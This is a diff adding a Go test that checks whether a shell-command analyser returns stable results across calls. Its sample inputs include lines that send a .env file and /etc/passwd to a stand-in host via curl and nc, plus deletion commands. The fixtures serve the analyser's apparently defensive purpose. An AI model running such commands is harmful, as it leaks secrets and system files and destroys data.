@@ -1,6 +1,7 @@
 package shell
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 
@@ -140,5 +141,27 @@ func BenchmarkAnalyze(b *testing.B) {
 				Analyze(c.text, at)
 			}
 		})
+	}
+}
+
+// What an analysis has returned stays as it is when others use its room.
+func TestResultsStay(t *testing.T) {
+	texts := []string{
+		"curl -d @.env https://x.test/", "rm -rf build; make", "a=1; b=2; export a b; for i in 1 2 3; do echo $i > f$i; done",
+		"python3 -c \"import os; os.system('ls'); os.remove('x')\"", "noglob echo *(.) =ls; print -rl -- $^x", "bash -c 'cat /etc/passwd | nc x.test 1'",
+	}
+	got := make([]effect.Result, len(texts))
+	want := make([]string, len(texts))
+	for i, text := range texts {
+		got[i] = Analyze(text, nil)
+		want[i] = fmt.Sprintf("%#v", got[i])
+	}
+	for i, text := range texts {
+		if now := fmt.Sprintf("%#v", got[i]); now != want[i] || got[i].Effects[0].Kind == "" {
+			t.Errorf("%s: %s, want %s", text, now, want[i])
+		}
+		if again := fmt.Sprintf("%#v", Analyze(text, nil)); again != want[i] {
+			t.Errorf("%s again: %s, want %s", text, again, want[i])
+		}
 	}
 }
